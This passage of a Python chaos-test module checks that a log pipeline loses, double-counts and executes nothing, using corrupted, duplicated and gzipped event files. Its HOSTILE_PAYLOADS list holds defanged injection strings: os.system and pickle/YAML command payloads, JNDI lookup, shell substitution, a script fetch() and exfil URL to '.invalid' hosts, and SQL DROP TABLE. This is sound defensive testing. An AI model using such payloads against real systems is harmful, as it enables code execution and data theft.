"""Chaos for the input path (issue 7): nothing lost, nothing counted twice, nothing executed.

    python -m pipelines.chaos [--output DIR] [--seed N] [--days N] [--actors N] [--only NAME,...]
    (`make chaos`; `tests/test_chaos.py` runs the same scenarios)

One clean reference is simulated (what `guetteur simulate` writes, without bad lines) and
run through the real `guetteur detect` on the local runner. Each scenario then rewrites
those same events — corrupted, shuffled, split, duplicated, gzipped, laced with hostile
payloads — runs the command again, and checks what came out against what went in:

* every input line is accounted for exactly once: `lines_read` is the number of lines in
  the files, `events_accepted` the number of valid ones, and the dead letters written are
  exactly the bad lines, byte for byte, each under the reason the generator predicted and
  counted under it (`dead_lettered_<reason>`);
* the alerts are the reference run's, `alert_id`s included (for `hostile`: the reference's,
  plus alerts about the hostile accounts only, their names verbatim);
* repeated `event_id`s are counted once (`events_duplicate` = the copies injected);
* hostile payloads open no file, start no process, resolve no host (audit hooks), and no
  value of an event field other than actor, org, actor_type, record ids and targets —
  names and e-mails put in `ua` and unknown fields, say — reaches the alerts.

A line is what an operator counts: the bytes up to each `\\n` (a `\\r` right before it is
part of the line ending), plus a last line without newline; `.gz` files count decompressed,
and a .gz that breaks off (corrupt, cut short, not gzip) counts what decodes before the damage
plus one for its unreadable rest, which is one `unreadable_file` dead letter.
That is also what Beam's text reader yields; a UTF-8 BOM stays on a file's first line
(the parser ignores it, the dead letter keeps it).
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import gzip
import io
import json
import os
import random
import shutil
import sys
import time
import types
import zlib
from collections import Counter
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Callable, Dict, Iterable, List, Optional, Sequence, Tuple

import orjson

from schemas import dead_letter as dl

DEFAULT_SEED = 11
DEFAULT_DAYS = 6
DEFAULT_ACTORS = 40

BOM = b"\xef\xbb\xbf"
MEGABYTE_LINE_BYTES = 2 << 20  # the "line of megabytes": twice the parser's limit
# Hostile payloads carry this token; no audited operation may ever see it.
TOKEN = "gtcanary7f3a"
# Event fields whose values may appear in alerts (CONTRACT §2); every other value must not.
ALLOWED_IN_ALERTS = frozenset({"actor", "org", "actor_type", "record", "target"})
_NOT_TEXT = frozenset({"ts", "action", "count"})  # timestamps, action names and numbers: not data to leak


# ---------------------------------------------------------------------------------------------
# Lines and files


def split_lines(data: bytes) -> List[bytes]:
    """The lines of a file's content, as an operator counts them and Beam's text reader yields them."""
    if not data:
        return []
    lines = data.split(b"\n")
    last = lines.pop()  # what follows the final newline: nothing, or a last line without one
    lines = [line[:-1] if line.endswith(b"\r") else line for line in lines]
    if last:
        lines.append(last)
    return lines


def read_content(path: Path) -> bytes:
    opener = gzip.open if str(path).endswith(".gz") else open
    with opener(path, "rb") as handle:
        return handle.read()


def readable_content(data: bytes, gz: bool) -> Tuple[bytes, bool]:
    """What a reader can decode of a file's bytes, and whether the file breaks off (a corrupt or cut .gz).

    zlib gives out everything before the damage, whatever the chunks it is fed.
    """
    if not gz:
        return data, False
    out: List[bytes] = []
    decoder = zlib.decompressobj(16 + zlib.MAX_WBITS)
    try:
        while data:
            out.append(decoder.decompress(data))
            data = decoder.unused_data
            if data:  # another gzip member follows
                decoder = zlib.decompressobj(16 + zlib.MAX_WBITS)
    except zlib.error:
        return b"".join(out), True
    return b"".join(out), not decoder.eof


def file_lines(path: Path) -> List[bytes]:
    """The lines of a file as the pipeline accounts for them: a file that breaks off ends in one more,
    empty "line" standing for its unreadable rest (one `unreadable_file` dead letter)."""
    content, broken = readable_content(Path(path).read_bytes(), str(path).endswith(".gz"))
    return split_lines(content) + ([b""] if broken else [])


@dataclass(frozen=True)
class Line:
    raw: bytes
    reason: Optional[str] = None  # None: a valid event; else the dead-letter reason expected
    kind: str = "event"


@dataclass
class FileSpec:
    """One input file: its lines and how they are laid out on disk."""

    name: str  # ends in .gz: gzip-compressed
    lines: List[Line]
    ending: bytes = b"\n"
    bom: bool = False
    final_newline: bool = True
    # How the file is damaged on disk, for a .gz: "cut" (its compressed bytes cut at 55 %) or
    # "not_gzip" (plain text under a .gz name). Lines the damage takes away are not in `yielded()`.
    damage: Optional[str] = None

    def content(self) -> bytes:
        body = self.ending.join(line.raw for line in self.lines)
        if self.lines and self.final_newline:
            body += self.ending
        return (BOM if self.bom else b"") + body

    def yielded(self) -> List[Tuple[bytes, Line]]:
        """(the bytes the reader yields, the line) for each line."""
        out = []
        for index, line in enumerate(self.lines):
            out.append(((BOM if self.bom and index == 0 else b"") + line.raw, line))
        if self.damage is None:
            return out
        content, broken = readable_content(self.disk_bytes(), True)
        kept = split_lines(content)
        damaged = out[:len(kept)]
        if kept and kept[-1] != damaged[-1][0]:
            # Cut inside a line: what is left of it is not JSON.
            damaged[-1] = (kept[-1], Line(kept[-1], dl.INVALID_JSON, "cut_line"))
        if broken:
            damaged.append((b"", Line(b"", dl.UNREADABLE_FILE, "unreadable_rest")))
        return damaged

    def disk_bytes(self) -> bytes:
        content = self.content()
        if not self.name.endswith(".gz") or self.damage == "not_gzip":
            return content
        buffer = io.BytesIO()
        with gzip.GzipFile(filename="", mode="wb", fileobj=buffer, mtime=0) as handle:
            handle.write(content)
        compressed = buffer.getvalue()
        return compressed[: len(compressed) * 55 // 100] if self.damage == "cut" else compressed

    def write(self, directory: Path) -> Path:
        path = directory / self.name
        path.write_bytes(self.disk_bytes())
        return path


@dataclass
class Expected:
    lines: int
    accepted: int
    dead: Counter  # (reason, line bytes) -> how many
    duplicates: int


@dataclass
class HostileSpec:
    canary: Path  # a file a payload would create if it were ever executed
    actors: Dict[str, str]  # hostile actor -> its (hostile) organisation: each must alert, verbatim
    targets: Tuple[str, ...]  # hostile account ids created by a hostile actor: verbatim or absent
    creator: str  # the hostile account manager that created them


@dataclass
class Corpus:
    name: str
    summary: str
    files: List[FileSpec]
    duplicates: int = 0  # extra copies of an event_id already present
    hostile: Optional[HostileSpec] = None

    def expected(self) -> Expected:
        accepted, dead = 0, Counter()
        for spec in self.files:
            for raw, line in spec.yielded():
                if line.reason is None:
                    accepted += 1
                else:
                    dead[(line.reason, raw)] += 1
        return Expected(accepted + sum(dead.values()), accepted, dead, self.duplicates)

    def write(self, directory: Path) -> str:
        """Writes the files; returns the glob `guetteur detect --input` gets."""
        directory.mkdir(parents=True, exist_ok=True)
        for spec in self.files:
            path = spec.write(directory)
            # The generator's own promise: the file holds exactly the lines it meant.
            want = [raw for raw, _ in spec.yielded()]
            if file_lines(path) != want:
                raise AssertionError(f"chaos generator bug: {path} does not hold the lines it was given")
        return str(directory / "*")


# ---------------------------------------------------------------------------------------------
# The catalogue: every way a line can be broken, and every way a valid line can be rewritten
# without changing its meaning.


def _dumps(obj) -> bytes:
    return orjson.dumps(obj)


def _with(template: dict, **changes) -> dict:
    obj = dict(template)
    for key, value in changes.items():
        if value is ...:
            obj.pop(key, None)
        else:
            obj[key] = value
    return obj


def _placeholder(template: dict, name: str, raw: bytes) -> bytes:
    """The template with field `name` set to a raw (possibly invalid) JSON value."""
    return _dumps(_with(template, **{name: "@@PLACEHOLDER@@"})).replace(b'"@@PLACEHOLDER@@"', raw)


def _append_raw(template: dict, raw_member: bytes, drop: str = "count") -> bytes:
    """The template with a raw `"key":value` member appended (e.g. a NaN orjson cannot write)."""
    return _dumps(_with(template, **{drop: ...}))[:-1] + b"," + raw_member + b"}"


def _nested(depth: int) -> bytes:
    return b'{"x":' * depth + b"1" + b"}" * depth


def _cut_inside_multibyte(template: dict) -> bytes:
    raw = _dumps(_with(template, actor="acct-\u20ac\u20ac"))
    at = raw.index("\u20ac".encode()) + 2  # two of the three bytes of the euro sign
    return raw[:at]


# (kind, expected reason, builder). Each builder gets a valid event (a dict) to shape the
# broken line like real traffic; bad lines never reuse a real event_id.
BadBuilder = Callable[[dict], bytes]
BAD_LINES: Tuple[Tuple[str, str, BadBuilder], ...] = (
    # -- not JSON at all, or broken JSON
    ("truncated_half", dl.INVALID_JSON, lambda t: _dumps(t)[: len(_dumps(t)) // 2]),
    ("truncated_last_brace", dl.INVALID_JSON, lambda t: _dumps(t)[:-1]),
    ("shipper_banner", dl.INVALID_JSON, lambda t: b"-- log shipper restarted --"),
    ("html_error_page", dl.INVALID_JSON, lambda t: b"<html><body><h1>502 Bad Gateway</h1></body></html>"),
    ("key_value_text", dl.INVALID_JSON, lambda t: f"ts={t['ts']} actor={t['actor']} action=consult".encode()),
    ("python_repr", dl.INVALID_JSON, lambda t: repr(t).encode()),
    ("two_objects", dl.INVALID_JSON, lambda t: _dumps(t) + _dumps(t)),
    ("trailing_garbage", dl.INVALID_JSON, lambda t: _dumps(t) + b" ;--"),
    ("raw_nul_in_string", dl.INVALID_JSON, lambda t: _placeholder(t, "actor", b'"acct-\x00"')),
    ("raw_tab_in_string", dl.INVALID_JSON, lambda t: _placeholder(t, "actor", b'"acct-\t1"')),
    ("lone_surrogate_escape", dl.INVALID_JSON, lambda t: _placeholder(t, "actor", b'"acct-\\ud800"')),
    ("count_nan", dl.INVALID_JSON, lambda t: _append_raw(t, b'"count":NaN')),
    ("count_infinity", dl.INVALID_JSON, lambda t: _append_raw(t, b'"count":-Infinity')),
    ("count_overflows_double", dl.INVALID_JSON, lambda t: _append_raw(t, b'"count":1e999')),
    ("nested_arrays_5000", dl.INVALID_JSON, lambda t: b"[" * 5000 + b"]" * 5000),
    ("nested_field_2000", dl.INVALID_JSON, lambda t: _append_raw(t, b'"extra":' + _nested(2000), drop="extra")),
    ("utf16_encoded", dl.INVALID_JSON, lambda t: _dumps(t).decode().encode("utf-16-le")),
    # -- not UTF-8
    ("invalid_byte", dl.INVALID_UTF8, lambda t: _placeholder(t, "actor", b'"acct-\xff\xfe"')),
    ("latin1_encoded", dl.INVALID_UTF8, lambda t: _dumps(_with(t, actor="acct-\u00e9lodie")).decode().encode("latin-1")),
    ("overlong_encoding", dl.INVALID_UTF8, lambda t: _placeholder(t, "actor", b'"acct-\xc0\xaf"')),
    ("encoded_surrogate", dl.INVALID_UTF8, lambda t: _placeholder(t, "actor", b'"acct-\xed\xa0\x80"')),
    ("cut_inside_character", dl.INVALID_UTF8, _cut_inside_multibyte),
    ("binary_garbage", dl.INVALID_UTF8, lambda t: bytes(range(128, 256))),
    # -- JSON, but not an object
    ("array", dl.NOT_AN_OBJECT, lambda t: b"[1,2,3]"),
    ("event_in_array", dl.NOT_AN_OBJECT, lambda t: b"[" + _dumps(t) + b"]"),
    ("string", dl.NOT_AN_OBJECT, lambda t: _dumps(_dumps(t).decode())),
    ("number", dl.NOT_AN_OBJECT, lambda t: b"-0.5e3"),
    ("null", dl.NOT_AN_OBJECT, lambda t: b"null"),
    ("true", dl.NOT_AN_OBJECT, lambda t: b"true"),
    # -- a required field missing
    ("no_ts", dl.MISSING_FIELD, lambda t: _dumps(_with(t, ts=...))),
    ("no_actor", dl.MISSING_FIELD, lambda t: _dumps(_with(t, actor=...))),
    ("no_action", dl.MISSING_FIELD, lambda t: _dumps(_with(t, action=...))),
    ("null_actor", dl.MISSING_FIELD, lambda t: _dumps(_with(t, actor=None))),
    ("null_ts", dl.MISSING_FIELD, lambda t: _dumps(_with(t, ts=None))),
    ("empty_object", dl.MISSING_FIELD, lambda t: b"{}"),
    ("ecs_without_user", dl.MISSING_FIELD, lambda t: _dumps({"@timestamp": t["ts"], "event": {"action": "consult"}})),
    # -- a field of the wrong type
    ("actor_list", dl.WRONG_TYPE, lambda t: _dumps(_with(t, actor=[t["actor"]]))),
    ("actor_object", dl.WRONG_TYPE, lambda t: _dumps(_with(t, actor={"id": t["actor"]}))),
    ("actor_bool", dl.WRONG_TYPE, lambda t: _dumps(_with(t, actor=True))),
    ("actor_float", dl.WRONG_TYPE, lambda t: _dumps(_with(t, actor=1.5))),
    ("action_number", dl.WRONG_TYPE, lambda t: _dumps(_with(t, action=7))),
    ("count_numeric_string", dl.WRONG_TYPE, lambda t: _dumps(_with(t, action="search", count="12"))),
    ("count_word", dl.WRONG_TYPE, lambda t: _dumps(_with(t, action="search", count="many"))),
    ("count_bool", dl.WRONG_TYPE, lambda t: _dumps(_with(t, action="search", count=True))),
    ("count_fraction", dl.WRONG_TYPE, lambda t: _dumps(_with(t, action="search", count=2.5))),
    ("count_list", dl.WRONG_TYPE, lambda t: _dumps(_with(t, action="search", count=[3]))),
    ("ts_object", dl.WRONG_TYPE, lambda t: _dumps(_with(t, ts={"when": t["ts"]}))),
    ("ts_bool", dl.WRONG_TYPE, lambda t: _dumps(_with(t, ts=True))),
    ("org_object", dl.WRONG_TYPE, lambda t: _dumps(_with(t, org={"id": 1}))),
    ("record_float", dl.WRONG_TYPE, lambda t: _dumps(_with(t, record=1.5))),
    ("record_beyond_64_bits", dl.WRONG_TYPE, lambda t: _placeholder(t, "record", b"123456789012345678901234567890")),
    ("ua_list", dl.WRONG_TYPE, lambda t: _dumps(_with(t, ua=["Mozilla/5.0"]))),
    # -- a value out of range
    ("actor_empty", dl.OUT_OF_RANGE, lambda t: _dumps(_with(t, actor=""))),
    ("actor_blank", dl.OUT_OF_RANGE, lambda t: _dumps(_with(t, actor="   "))),
    ("actor_unicode_blank", dl.OUT_OF_RANGE, lambda t: _dumps(_with(t, actor="\u00a0\u2028\u3000"))),
    ("actor_over_256_chars", dl.OUT_OF_RANGE, lambda t: _dumps(_with(t, actor="a" * 257))),
    ("action_empty", dl.OUT_OF_RANGE, lambda t: _dumps(_with(t, action=""))),
    ("count_zero", dl.OUT_OF_RANGE, lambda t: _dumps(_with(t, action="search", count=0))),
    ("count_negative", dl.OUT_OF_RANGE, lambda t: _dumps(_with(t, action="search", count=-5))),
    ("count_negative_zero", dl.OUT_OF_RANGE, lambda t: _dumps(_with(t, action="search", count=-0.0))),
    ("count_huge", dl.OUT_OF_RANGE, lambda t: _dumps(_with(t, action="export", count=10**12))),
    ("count_huge_float", dl.OUT_OF_RANGE, lambda t: _placeholder(_with(t, action="export"), "count", b"1e30")),
    ("ts_epoch_seconds", dl.OUT_OF_RANGE, lambda t: _dumps(_with(t, ts=1_772_442_902))),
    ("ts_tiny", dl.OUT_OF_RANGE, lambda t: _dumps(_with(t, ts=12))),
    ("ts_negative", dl.OUT_OF_RANGE, lambda t: _dumps(_with(t, ts=-1))),
    ("ts_u64_max", dl.OUT_OF_RANGE, lambda t: _placeholder(t, "ts", b"18446744073709551615")),
    ("ts_1e300", dl.OUT_OF_RANGE, lambda t: _placeholder(t, "ts", b"1e300")),
    ("ts_last_century", dl.OUT_OF_RANGE, lambda t: _dumps(_with(t, ts="1999-12-31T23:59:59Z"))),
    ("ts_year_2100", dl.OUT_OF_RANGE, lambda t: _dumps(_with(t, ts="2100-01-01T00:00:00Z"))),
    # -- a timestamp that cannot be parsed
    ("ts_word", dl.BAD_TIMESTAMP, lambda t: _dumps(_with(t, ts="yesterday"))),
    ("ts_empty", dl.BAD_TIMESTAMP, lambda t: _dumps(_with(t, ts=""))),
    ("ts_nan_text", dl.BAD_TIMESTAMP, lambda t: _dumps(_with(t, ts="NaN"))),
    ("ts_no_offset", dl.BAD_TIMESTAMP, lambda t: _dumps(_with(t, ts=t["ts"].rstrip("Z")))),
    ("ts_date_only", dl.BAD_TIMESTAMP, lambda t: _dumps(_with(t, ts=t["ts"][:10]))),
    ("ts_february_30", dl.BAD_TIMESTAMP, lambda t: _dumps(_with(t, ts="2026-02-30T10:00:00Z"))),
    ("ts_hour_25", dl.BAD_TIMESTAMP, lambda t: _dumps(_with(t, ts="2026-03-02T25:61:00Z"))),
    ("ts_offset_25h", dl.BAD_TIMESTAMP, lambda t: _dumps(_with(t, ts="2026-03-02T09:15:02.123+25:00"))),
    ("ts_us_format", dl.BAD_TIMESTAMP, lambda t: _dumps(_with(t, ts="03/02/2026 09:15:02 +0100"))),
    ("ts_fractional_ms", dl.BAD_TIMESTAMP, lambda t: _dumps(_with(t, ts=1_772_442_902_123.5))),
    # -- lines of megabytes
    ("line_of_2_mb", dl.LINE_TOO_LONG, lambda t: _dumps(_with(t, ua="x" * MEGABYTE_LINE_BYTES))),
    ("binary_of_1_2_mb", dl.LINE_TOO_LONG, lambda t: b"\xff" * (1_200_000)),
    # -- blank lines
    ("empty", dl.EMPTY_LINE, lambda t: b""),
    ("spaces", dl.EMPTY_LINE, lambda t: b"    "),
    ("tabs_and_spaces", dl.EMPTY_LINE, lambda t: b"\t \t "),
)
_HEAVY = frozenset({"line_of_2_mb", "binary_of_1_2_mb", "nested_arrays_5000", "nested_field_2000"})


def _offset_ts(ts_text: str) -> str:
    """The same instant written with a +02:00 offset."""
    instant = datetime.fromisoformat(ts_text)
    return instant.astimezone(timezone(timedelta(hours=2))).isoformat(timespec="milliseconds")


def _epoch_ms(ts_text: str) -> int:
    instant = datetime.fromisoformat(ts_text)
    return int(instant.timestamp()) * 1000 + instant.microsecond // 1000


_ECS_PATHS = {
    "ts": ("@timestamp",), "actor": ("user", "name"), "action": ("event", "action"), "count": ("guetteur", "count"),
    "record": ("guetteur", "record"), "target": ("user", "target", "name"), "org": ("organization", "id"),
    "actor_type": ("guetteur", "actor_type"), "app": ("service", "name"), "ip": ("source", "ip"),
    "ua": ("user_agent", "original"), "session": ("session", "id"), "event_id": ("event", "id"),
}


def to_ecs(event: dict) -> dict:
    """A flat event rewritten as an ECS object, through the default field mapping."""
    ecs: dict = {}
    for name, value in event.items():
        path = _ECS_PATHS[name]
        node = ecs
        for part in path[:-1]:
            node = node.setdefault(part, {})
        node[path[-1]] = value
    return ecs


# (kind, rewrite): each gives a line that parses to exactly the same AccessEvent.
MUTATIONS: Tuple[Tuple[str, Callable[[dict], bytes]], ...] = (
    ("keys_reversed", lambda e: _dumps(dict(reversed(list(e.items()))))),
    ("ts_epoch_ms", lambda e: _dumps(_with(e, ts=_epoch_ms(e["ts"])))),
    ("ts_plus_two_hours", lambda e: _dumps(_with(e, ts=_offset_ts(e["ts"])))),
    ("padded_with_whitespace", lambda e: b" \t " + _dumps(e) + b"\t  "),
    ("python_json_spacing", lambda e: json.dumps(e, ensure_ascii=True, indent=None).encode()),
    ("unknown_fields", lambda e: _dumps(dict(e, x_nested=orjson.loads(_nested(100)), x_big=1e308,
                                             x_text="\u00e9\u20ac\U0001F600", x_list=[None, True, {"a": []}],
                                             **({} if "target" in e else {"target": None})))),
    ("ecs_form", lambda e: _dumps(to_ecs(e))),
)


def bad_line(kind_index: int, template: dict, serial: int) -> Line:
    kind, reason, build = BAD_LINES[kind_index]
    raw = build(_with(template, event_id=f"chaos-bad-{serial:06d}"))
    if b"\n" in raw or raw.endswith(b"\r"):
        raise AssertionError(f"chaos generator bug: bad line {kind!r} would not stay one line")
    return Line(raw, reason, kind)


# ---------------------------------------------------------------------------------------------
# Scenarios


@dataclass
class Reference:
    lines: List[bytes]  # the simulated events, one JSON object per line, sorted by ts
    seed: int


def _rng(reference: Reference, name: str) -> random.Random:
    return random.Random(f"guetteur-chaos:{reference.seed}:{name}")


def _events(lines: Iterable[bytes]) -> List[Line]:
    return [Line(raw) for raw in lines]


def _split(lines: List[Line], parts: int, rng: random.Random) -> List[List[Line]]:
    """Uneven contiguous chunks, none empty."""
    cuts = sorted(rng.sample(range(1, len(lines)), parts - 1))
    bounds = [0, *cuts, len(lines)]
    return [lines[a:b] for a, b in zip(bounds, bounds[1:])]


def _shuffled(reference: Reference, rng: random.Random) -> List[Line]:
    lines = _events(reference.lines)
    rng.shuffle(lines)
    return lines


def build_reference(reference: Reference) -> Corpus:
    return Corpus("reference", "simulated events, sorted, one file",
                  [FileSpec("events.jsonl", _events(reference.lines))])


def build_corrupt(reference: Reference) -> Corpus:
    rng = _rng(reference, "corrupt")
    templates = [orjson.loads(raw) for raw in reference.lines]
    lines = []
    for index, raw in enumerate(reference.lines):
        if rng.random() < 0.03:  # rewritten without changing its meaning
            kind, rewrite = MUTATIONS[index % len(MUTATIONS)]
            lines.append(Line(rewrite(templates[index]), None, kind))
        else:
            lines.append(Line(raw))
    chunks = _split(lines, 4, rng)
    files = [
        FileSpec("part-1-lf.jsonl", chunks[0]),
        FileSpec("part-2-crlf.jsonl", chunks[1], ending=b"\r\n"),
        FileSpec("part-3-bom-no-final-newline.jsonl", chunks[2], bom=True, final_newline=False),
        FileSpec("part-4.jsonl.gz", chunks[3]),
    ]
    serial = 0
    for kind_index, (kind, _, _) in enumerate(BAD_LINES):
        for _ in range(1 if kind in _HEAVY else 3):
            serial += 1
            spec = files[rng.randrange(len(files))]
            # Never first (a BOM file must start with a real event) nor last (no newline there).
            spec.lines.insert(rng.randrange(1, len(spec.lines)), bad_line(kind_index, rng.choice(templates), serial))
    files += [
        FileSpec("part-5-empty.jsonl", []),
        # A BOM in front of a broken line, a line that is only a BOM, and a last line of spaces
        # without newline: the dead letters keep those bytes exactly.
        FileSpec("part-6-bom-then-junk.jsonl",
                 [Line(b"{not json", dl.INVALID_JSON, "bom_then_junk"), Line(BOM, dl.EMPTY_LINE, "bom_only"),
                  Line(b"   ", dl.EMPTY_LINE, "spaces_no_newline")],
                 ending=b"\r\n", bom=True, final_newline=False),
    ]
    return Corpus("corrupt", f"{len(BAD_LINES)} kinds of bad line, rewritten events, CRLF, BOM, gzip, no final newline",
                  files)


def build_shuffled(reference: Reference) -> Corpus:
    return Corpus("shuffled", "the same events in random order", [FileSpec("events.jsonl", _shuffled(reference, _rng(reference, "shuffled")))])


def build_split(reference: Reference) -> Corpus:
    rng = _rng(reference, "split")
    chunks = _split(_shuffled(reference, rng), 5, rng)
    return Corpus("split", "shuffled, then cut into 5 uneven files",
                  [FileSpec(f"part-{i + 1}.jsonl", chunk) for i, chunk in enumerate(chunks)])


def build_gzip_mix(reference: Reference) -> Corpus:
    rng = _rng(reference, "gzip_mix")
    chunks = _split(_shuffled(reference, rng), 4, rng)
    return Corpus("gzip_mix", "shuffled, 4 files, 2 of them gzip",
                  [FileSpec(f"part-{i + 1}.jsonl" + (".gz" if i % 2 else ""), chunk) for i, chunk in enumerate(chunks)])


def build_corrupt_gz(reference: Reference) -> Corpus:
    """The events in a plain and a gzip file, next to two broken re-sends of some of them: a .gz cut
    short in transit, and plain text under a .gz name. The job goes on; what is readable of the cut
    file is counted (as duplicates), the rest of each broken file is one `unreadable_file` dead letter."""
    rng = _rng(reference, "corrupt_gz")
    lines = _events(reference.lines)
    middle = rng.randrange(len(lines) // 4, len(lines) // 2)
    cut = FileSpec("resent-cut.jsonl.gz", lines[middle:middle + 600], damage="cut")
    not_gzip = FileSpec("resent-plain-text.jsonl.gz", lines[:50], damage="not_gzip")
    copies = sum(1 for _, line in cut.yielded() if line.reason is None)
    return Corpus("corrupt_gz", "a gzip cut short and plain text named .gz, next to the events",
                  [FileSpec("part-1.jsonl", lines[: len(lines) // 2]), FileSpec("part-2.jsonl.gz", lines[len(lines) // 2:]),
                   cut, not_gzip], duplicates=copies)


def build_duplicated(reference: Reference) -> Corpus:
    """At-least-once delivery: copies next to the original, far from it, in other files, re-serialised."""
    rng = _rng(reference, "duplicated")
    chunks = _split(_events(reference.lines), 3, rng)
    inserts: List[Tuple[int, int, Line]] = []  # (file, position in the original chunk, line)
    copies = 0
    for file_index, chunk in enumerate(chunks):
        for position, line in enumerate(chunk):
            if rng.random() >= 0.06:
                continue
            how = rng.randrange(5)
            event = orjson.loads(line.raw)
            if how == 0:  # redelivered right away
                inserts.append((file_index, position + 1, Line(line.raw, None, "copy_adjacent")))
            elif how == 1:  # redelivered much later (or earlier) in the same file
                far = (position + len(chunk) // 2) % len(chunk)
                inserts.append((file_index, far, Line(line.raw, None, "copy_far")))
            elif how == 2:  # redelivered into another file
                other = (file_index + 1 + rng.randrange(len(chunks) - 1)) % len(chunks)
                inserts.append((other, rng.randrange(len(chunks[other]) + 1), Line(line.raw, None, "copy_other_file")))
            elif how == 3:  # re-serialised by a relay: other key order, epoch milliseconds
                rewritten = _dumps(dict(reversed(list(_with(event, ts=_epoch_ms(event["ts"])).items()))))
                other = rng.randrange(len(chunks))
                inserts.append((other, rng.randrange(len(chunks[other]) + 1), Line(rewritten, None, "copy_reserialised")))
            else:  # delivered three times: next to it and in another file
                other = (file_index + 1) % len(chunks)
                inserts.append((file_index, position + 1, Line(line.raw, None, "copy_adjacent")))
                inserts.append((other, rng.randrange(len(chunks[other]) + 1), Line(line.raw, None, "copy_other_file")))
                copies += 1
            copies += 1
    files = [list(chunk) for chunk in chunks]
    for file_index, position, line in sorted(inserts, key=lambda item: (item[0], -item[1])):
        files[file_index].insert(position, line)
    return Corpus("duplicated", "6% of events delivered 2-3 times: adjacent, far, other file, re-serialised",
                  [FileSpec(f"part-{i + 1}.jsonl", lines) for i, lines in enumerate(files)], duplicates=copies)


# Payloads that would do something if anything ever evaluated, formatted, deserialised, opened
# or fetched them. CANARY is a file they would create; TOKEN marks them for the audit hook.
HOSTILE_PAYLOADS = (
    "__import__('os').system('touch CANARY')",
    "{0.__class__.__init__.__globals__} TOKEN",
    "%s%s%s%n%x TOKEN",
    "!!python/object/apply:os.system ['touch CANARY']",
    "cos\nsystem\n(S'touch CANARY'\ntR.",
    "${jndi:ldap://TOKEN.invalid/a}",
    "../../../../../..CANARY",
    "file://CANARY",
    "http://TOKEN.invalid:8080/exfil?x=1",
    "$(touch CANARY)`touch CANARY`",
    "<script>fetch('//TOKEN.invalid')</script>",
    "'; DROP TABLE alerts; -- TOKEN",
    "{{7*7}}{%raw%} TOKEN \u202e\u0000\u001b[2J",
    "A" * 230 + "TOKEN",
)
# Fake personal data of job seekers: must never reach an alert.
FAKE_PEOPLE = (
    ("Jeanne Dupont-Lef\u00e8vre", "jeanne.dupont@example.org", "2 84 05 75 123 456 78", "+33 6 12 34 56 78"),
    ("Mohamed Benali", "m.benali1990@example.net", "1 90 11 13 055 321 09", "+33 7 98 76 54 32"),
    ("Ana\u00efs Le Gall", "anais.legall@example.com", "2 01 02 29 019 777 41", "+33 6 00 11 22 33"),
    ("Thi Hoa Nguyen", "nguyen.thihoa@example.org", "2 75 12 99 350 012 66", "+33 1 45 67 89 01"),
)


def hostile_strings(canary: Path) -> List[str]:
    return [p.replace("CANARY", str(canary)).replace("TOKEN", TOKEN) for p in HOSTILE_PAYLOADS]


def _with_personal_data(event: dict, person: Tuple[str, str, str, str], index: int) -> dict:
    name, email, nir, phone = person
    return dict(
        event,
        ua=f"Mozilla/5.0 (X11; Linux) Firefox/124.0 session-user={email}",
        beneficiary={"name": name, "nir": nir, "birth_date": f"19{60 + index % 30}-0{1 + index % 9}-1{index % 10}",
                     "address": f"{12 + index % 80} rue des Lilas, 750{10 + index % 10} Paris"},
        email=email,
        comment=f"appel de {name} au {phone} TOKEN".replace("TOKEN", TOKEN),
    )


def build_hostile(reference: Reference, workdir: Path) -> Corpus:
    """The reference with personal data in every 4th event, plus hostile accounts reading in bulk."""
    rng = _rng(reference, "hostile")
    canary = workdir / f"{TOKEN}-pwned"
    payloads = hostile_strings(canary)
    lines = []
    for index, raw in enumerate(reference.lines):
        if index % 4 == 0:
            event = _with_personal_data(orjson.loads(raw), FAKE_PEOPLE[index % len(FAKE_PEOPLE)], index)
            lines.append(Line(_dumps(event), None, "personal_data"))
        else:
            lines.append(Line(raw))
    first_ms = _epoch_ms(orjson.loads(reference.lines[0])["ts"])
    start_ms = first_ms - first_ms % 86_400_000 + 3 * 86_400_000 + 2 * 3_600_000  # day 4, 02:00 UTC
    actors: Dict[str, str] = {}
    hostile_lines: List[Line] = []
    names = payloads[:6] + payloads[-3:]
    for n, actor in enumerate(names):
        org = payloads[(n + 6) % len(payloads)]
        actors[actor] = org
        base = start_ms + n * 3_600_000
        for k in range(200):  # 200 records in 5 minutes: far above any role's usual maximum
            event = {
                "ts": datetime.fromtimestamp((base + k * 1_400) / 1000, tz=timezone.utc).isoformat(timespec="milliseconds"),
                "actor": actor, "action": "consult", "record": f"{payloads[k % len(payloads)]}#{k}",
                "org": org, "actor_type": "advisor" if n % 3 else payloads[(n + 1) % len(payloads)],
                "app": f"app={payloads[n]}", "ip": f"ip={payloads[(n + 2) % len(payloads)]}",
                "ua": f"ua={payloads[(n + 3) % len(payloads)]}", "session": f"session={payloads[(n + 4) % len(payloads)]}",
                "event_id": f"event_id={payloads[(n + 5) % len(payloads)]}#{k}",
                "__class__": f"unknown={payloads[(n + 7) % len(payloads)]}",
                "__proto__": {"polluted": f"unknown={payloads[(n + 8) % len(payloads)]}"},
                "$where": f"unknown={payloads[(n + 9) % len(payloads)]}",
            }
            hostile_lines.append(Line(_dumps(event), None, "hostile_event"))
    # A hostile account manager creates accounts with hostile ids, which then read in bulk: the ids
    # reach alerts as actors (and as related accounts if the creation rule fires), verbatim.
    creator, targets = "acct-" + payloads[1], tuple(payloads[2:5])
    base = start_ms + 12 * 3_600_000
    for n, target in enumerate(targets):
        actors[target] = "org-hostile-creations"
        hostile_lines.append(Line(_dumps({"ts": _iso(base + n * 60_000), "actor": creator, "action": "account_create",
                                          "target": target, "org": "org-hostile-creations",
                                          "actor_type": "account_manager",
                                          "event_id": f"event_id=create#{n}"}), None, "hostile_event"))
        for k in range(200):
            hostile_lines.append(Line(_dumps({"ts": _iso(base + 600_000 + n * 300_000 + k * 1_400), "actor": target,
                                              "action": "consult", "record": f"rec-h{n}-{k}",
                                              "org": "org-hostile-creations", "actor_type": "advisor",
                                              "event_id": f"event_id=child#{n}#{k}"}), None, "hostile_event"))
    # Hostile values the parser must refuse: huge numbers, and payloads where a type is expected.
    template = orjson.loads(reference.lines[len(reference.lines) // 2])
    refused = [
        Line(_placeholder(_with(template, action="export"), "count", b"1" + b"0" * 400), dl.INVALID_JSON, "count_1e400"),
        Line(_placeholder(template, "count", b"1" + b"0" * 30), dl.OUT_OF_RANGE, "count_1e30"),
        Line(_placeholder(template, "ts", b"9" * 25), dl.OUT_OF_RANGE, "ts_25_digits"),
